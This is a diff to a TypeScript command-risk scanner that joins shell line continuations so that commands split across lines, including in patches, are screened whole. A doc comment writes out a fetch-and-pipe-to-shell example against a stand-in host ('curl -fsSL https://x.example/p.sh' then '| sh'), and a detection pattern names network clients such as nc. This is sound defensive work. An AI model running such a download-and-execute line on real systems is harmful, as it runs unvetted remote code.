@@ -29,6 +29,7 @@ import {
   verifiesDownload,
   viewOf,
 } from "./risk-view.ts";
+import { joinContinuedLines } from "./screening-text.ts";
 import { allCommands, parseShell, type Script } from "./shell.ts";
 import type { Trail } from "./trail.ts";
 
@@ -54,6 +55,8 @@ type Found = { flag: RiskFlagName; level: RiskLevel; detail: string };
 /** Hostile input costs linear time: only this much of a command or patch text is read. */
 const MAX_TEXT = 20000;
 const head = (s: string) => (s.length > MAX_TEXT ? s.slice(0, MAX_TEXT) : s);
+/** The command as a shell reads it: its first MAX_TEXT characters, continued lines joined (`\`, `` ` `` or `^` ⏎). */
+const commandText = (s: string) => joinContinuedLines(head(s));
 
 // --- Matching ---------------------------------------------------------------------------------
 
@@ -84,7 +87,7 @@ const isNetworkClient = (v: View | null) => v !== null && (isFetch(v) || /^(nc|n
 /** Flags of one command line (without the cross-command download tracking). */
 export function analyzeCommand(command: string): Found[] {
   const found: Found[] = [];
-  const src = head(command);
+  const src = commandText(command);
   const visit = (script: Script, depth: number, outer: ReadonlyMap<string, string>) => {
     const vars = new Map(outer); // a=curl; $a …: assignments hold for the rest of this script
     for (const p of script) {
@@ -131,9 +134,44 @@ export function addedLines(diff: string): string[] {
   return lines.filter((l) => l.startsWith("+") && !l.startsWith("+++ ")).map((l) => l.slice(1));
 }
 
+/** Does this line continue onto the next (LINE_CONTINUATION, screening-text.ts)? */
+const CONTINUES = /(?:(?<!\\)\\|[ \t][\x60^])\r?$/;
+
+/**
+ * The lines a diff adds, each joined with the lines it continues onto or that continue onto it
+ * (`\`, `` ` `` or `^` before the line break), unchanged lines of the diff among them: an added
+ * `RUN curl -fsSL https://x.example/p.sh \` before an unchanged `| sh` is one command of the
+ * patched file. A line the diff removes is not part of it.
+ */
+export function addedCommandLines(diff: string): string[] {
+  const lines = diff.split("\n");
+  const isDiff = lines.some((l) => /^(@@|\+\+\+ |--- |[+-])/.test(l));
+  if (!isDiff) return joinContinuedLines(diff).split("\n");
+  const out: string[] = [];
+  let pending: string[] = [];
+  let added = false;
+  const flush = () => {
+    if (added) out.push(joinContinuedLines(pending.join("\n")));
+    pending = [];
+    added = false;
+  };
+  for (const l of lines) {
+    if (l.startsWith("+++ ") || l.startsWith("--- ") || l.startsWith("-") || l.startsWith("\\")) continue;
+    if (!l.startsWith("+") && !l.startsWith(" ")) {
+      flush(); // a hunk header or other text between hunks: the file goes on elsewhere
+      continue;
+    }
+    pending.push(l.slice(1));
+    if (l.startsWith("+")) added = true;
+    if (!CONTINUES.test(l)) flush();
+  }
+  flush();
+  return out;
+}
+
 function patchFlags(filePath: string, diff: string): Found[] {
   const f: Found[] = [];
-  const lines = addedLines(diff);
+  const lines = addedCommandLines(diff);
   const text = lines.join("\n");
   const where = `in ${short(filePath, 80)}`;
   for (const rule of PATCH_RULES) {
@@ -206,7 +244,7 @@ export function assessRisk(trail: Trail): Risk {
     if (typeof command !== "string") return;
     for (const x of analyzeCommand(command)) flags.push({ command_index: index, ...x });
     // Download now, run later: medium, since the file could be inspected in between.
-    for (const c of allCommands(parseShell(head(command)))) {
+    for (const c of allCommands(parseShell(commandText(command)))) {
       const v = viewOf(c);
       if (!v) continue;
       if (verifiesDownload(v)) verified = true;
